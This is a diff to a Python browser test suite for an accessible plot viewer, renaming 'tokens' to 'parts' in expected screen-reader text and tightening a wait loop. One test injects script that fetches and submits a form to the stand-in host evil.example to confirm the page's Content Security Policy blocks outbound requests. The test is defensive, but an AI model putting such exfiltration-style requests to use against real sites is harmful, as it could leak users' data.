@@ -163,13 +163,13 @@ def test_a_plot_is_read_by_keys(show):
         shown.page.keyboard.press(key)
         heard.append(plot.get_attribute("aria-valuetext"))
     assert heard == [
-        "0 ms: 0 tokens",
-        "1.0 s: 1 token",
-        "2.0 s: 2 tokens",
-        "38.0 s: 4 tokens",
-        "38.0 s: 4 tokens",
+        "0 ms: 0 parts",
+        "1.0 s: 1 part",
+        "2.0 s: 2 parts",
+        "38.0 s: 4 parts",
+        "38.0 s: 4 parts",
     ]
-    assert shown.page.locator("article .readout").first.inner_text() == "38.0 s: 4 tokens"
+    assert shown.page.locator("article .readout").first.inner_text() == "38.0 s: 4 parts"
     assert plot.evaluate("(place) => getComputedStyle(place).outlineStyle") == "solid"
 
 
@@ -212,7 +212,7 @@ def test_it_is_accessible(show, scheme, width):
 def test_a_screen_reader_is_told_the_same(show):
     """Sentence, slider with its name and value, and tables with heads."""
     heard = show(PLOTTED).everything().page.locator("main").aria_snapshot()
-    assert 'slider "Tokens over time, openai-py"' in heard
+    assert 'slider "The answer over time, openai-py"' in heard
     assert "34.0 s of silence but for 3 heartbeats" in heard
     assert 'columnheader "longest silence"' in heard
     assert 'rowheader "wait for headers"' in heard
@@ -240,7 +240,7 @@ def test_nothing_leaves_even_if_something_ran(show):
       await fetch('https://evil.example/').catch(() => 0);
       add('form', { action: 'https://evil.example/' });
       document.querySelector('form').submit();
-      await new Promise((done) => setTimeout(done, 100));
+      for (let turns = 0; stopped.length < 4 && turns < 100; turns++) await new Promise((done) => setTimeout(done, 50));
       return [...stopped, window.ran];
     }""")
     assert sorted(map(str, stopped)) == ["None", "connect-src", "form-action", "img-src", "script-src-elem"]
